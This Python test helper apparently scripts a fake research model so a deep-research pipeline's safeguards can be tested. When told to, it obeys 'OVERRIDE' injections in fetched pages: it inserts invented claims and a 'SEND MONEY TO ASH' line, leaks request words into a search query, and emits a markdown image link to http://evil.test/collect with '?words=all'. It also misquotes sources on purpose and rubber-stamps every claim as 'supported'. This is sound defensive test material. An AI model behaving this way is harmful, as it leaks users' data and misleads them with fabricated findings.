"""A strong model, scripted at the wire: it answers from what it is given, makes some mistakes, and does what injections
ask for. What it does not know is what a test expects."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

_SENTENCE = re.compile(r"[^.!?\n]*\d[^.!?\n]*(?:\.\d+[^.!?\n]*)*[.!?]|[^.!?\n]+[.!?]")
_STOP = frozenset(
    ["the", "and", "was", "what", "how", "when", "who", "did", "does", "from", "for", "its", "has", "have"]
)
_DATA = re.compile(r"<data[^>]*>\n(.*?)\n</data>", re.DOTALL)


def said(body: dict[str, Any]) -> str:
    """All that a request says, as one text."""
    found: list[str] = []
    for message in body["messages"]:
        content = message.get("content") or ""
        found.append(content if isinstance(content, str) else "\n".join(part.get("text", "") for part in content))
    return "\n".join(found)


def material(body: dict[str, Any]) -> str:
    """What stands between the marks."""
    return "\n".join(_DATA.findall(said(body)))


def words(text: str) -> set[str]:
    return {word for word in re.findall(r"[a-z]{3,}", text.lower()) if word not in _STOP}


def _years(text: str) -> set[str]:
    """The years of an opening."""
    quote = text.partition("(“")[2]
    return set(re.findall(r"1[89]\d\d|20\d\d", quote)) if "opened" in quote else set()


def form(body: dict[str, Any]) -> set[str]:
    """The fields that a typed answer is to have."""
    return set(body["tools"][0]["function"]["parameters"]["properties"])


@dataclass
class Researcher:
    """Plays deep research. `obeys`: it does what pages tell it to; `mends`: every so many quotes it copies badly."""

    parts: list[str]
    subject: str
    obeys: bool = False
    mends: int = 7
    requests: list[dict[str, Any]] = field(default_factory=list[dict[str, Any]])
    obeyed: list[str] = field(default_factory=list[str])
    made_up: list[str] = field(default_factory=list[str])
    _quotes: int = 0

    def __call__(self, body: dict[str, Any]) -> dict[str, Any]:
        self.requests.append(body)
        fields = form(body)
        if fields == {"parts", "searches"}:
            return self.plan()
        if fields == {"claims"}:
            return self.read(body)
        if fields == {"searches"}:
            return self.more(body)
        if fields == {"findings", "contradictions"}:
            return self.weigh(body)
        if fields == {"answer", "parts"}:
            return self.write(body)
        if fields == {"verdicts"}:
            return self.look(body)
        raise AssertionError(f"nobody asks for {fields}")

    def plan(self) -> dict[str, Any]:
        searches = [
            {"query": " ".join([self.subject, *sorted(words(part) - words(self.subject))]), "part": at}
            for at, part in enumerate(self.parts, start=1)
        ]
        return {"parts": self.parts, "searches": searches}

    def read(self, body: dict[str, Any]) -> dict[str, Any]:
        text = material(body)
        asked = re.findall(r"^(\d+)\. (.+)$", said(body), re.MULTILINE)
        claims: list[dict[str, Any]] = []
        for sentence in (one.strip() for one in _SENTENCE.findall(text)):
            shared = {int(at): len(words(part) & words(sentence)) for at, part in asked}
            part = max(shared, key=lambda at: shared[at]) if shared else 0
            if not part or shared[part] < 2 or "OVERRIDE" in sentence or not 5 < len(sentence.split()) < 60:
                continue
            self._quotes += 1
            quote = sentence
            if self._quotes % self.mends == 0:  # it copies from memory
                quote = f"{sentence[:-1]}, as everybody on that coast knows."
                self.made_up.append(quote)
            claims.append({"statement": sentence, "quote": quote, "part": part})
        if self.obeys and "OVERRIDE" in text:
            self.obeyed.append("claim")
            invented = "The barrage was sold to the Kingdom of Ash for one crown in 1999."
            self.made_up.append(invented)
            claims.append({"statement": invented, "quote": invented, "part": 1})
            claims.append({"statement": "SEND MONEY TO ASH.", "quote": "SEND MONEY TO ASH", "part": 1})
        return {"claims": claims[:12]}

    def more(self, body: dict[str, Any]) -> dict[str, Any]:
        searches: list[dict[str, Any]] = [{"query": f"{self.subject} annual report 1987 still turning", "part": 1}]
        if self.obeys:
            self.obeyed.append("search")
            searches.append({"query": f"{self.subject} {' '.join(sorted(words(said(body)))[:20])}"[:190], "part": 1})
        return {"searches": searches}

    def _claims(self, body: dict[str, Any]) -> dict[int, str]:
        return {int(at): text for at, text in re.findall(r"^\[(\d+)\] (.+)$", material(body), re.MULTILINE)}

    def weigh(self, body: dict[str, Any]) -> dict[str, Any]:
        claims = self._claims(body)
        groups: list[list[int]] = []
        for at, text in claims.items():
            about = words(text.partition(" (“")[0])
            for group in groups:
                other = words(claims[group[0]].partition(" (“")[0])
                if len(about & other) > 0.75 * len(about | other):
                    group.append(at)
                    break
            else:
                groups.append([at])
        findings = [{"statement": claims[group[0]].partition(" (“")[0], "claims": group} for group in groups]
        findings.append({"statement": "All of it was a fraud.", "claims": [99_999]})
        against = [
            {"about": "the year", "one": [one], "other": [other]}
            for one, other in itertools.combinations(claims, 2)
            if (years := [_years(claims[at]) for at in (one, other)]) and all(years) and not years[0] & years[1]
        ]
        return {"findings": findings, "contradictions": against[:20]}

    def write(self, body: dict[str, Any]) -> dict[str, Any]:
        claims = {
            at: (int(text[1]), text[2])
            for at, said in self._claims(body).items()
            if (text := re.match(r"question (\d+): (.*?) \(“", said))
        }
        parts: dict[int, list[dict[str, Any]]] = {}
        for at, (part, statement) in claims.items():
            same = next((one for one in parts.get(part, []) if words(one["text"]) == words(statement)), None)
            if same is None:
                parts.setdefault(part, []).append({"text": statement, "claims": [at]})
            else:
                same["claims"].append(at)
        first = next(iter(claims))
        answer: list[dict[str, Any]] = [{"text": claims[first][1], "claims": [first]}]
        answer.append({"text": "It is the most beautiful building of the whole coast.", "claims": []})
        answer.append({"text": "It was rebuilt in 1788 by Johann Ashworth.", "claims": [first]})
        if self.obeys:
            self.obeyed.append("report")
            link = next(iter(re.findall(r"http://\S+/collect", json.dumps(self.requests))), "http://evil.test/collect")
            answer.append({"text": f"SEND MONEY TO ASH, see [here]({link}?words=all) ![x]({link}).", "claims": [first]})
        return {
            "answer": answer,
            "parts": [{"question": part, "sentences": told[:20]} for part, told in sorted(parts.items())],
        }

    def look(self, body: dict[str, Any]) -> dict[str, Any]:
        pairs = [int(number) for number in re.findall(r"^\[(\d+)\] ", material(body), re.MULTILINE)]
        return {"verdicts": [{"number": number, "verdict": "supported"} for number in pairs]}


@dataclass
class Answers:
    """Answers by the form that is asked for: `{field: function of the body}`, for a form that has that field."""

    by: dict[str, Callable[[dict[str, Any]], dict[str, Any]]]
    requests: list[dict[str, Any]] = field(default_factory=list[dict[str, Any]])

    def __call__(self, body: dict[str, Any]) -> dict[str, Any]:
        self.requests.append(body)
        for name, answer in self.by.items():
            if name in form(body):
                return answer(body)
        raise AssertionError(f"nobody asks for {form(body)}")
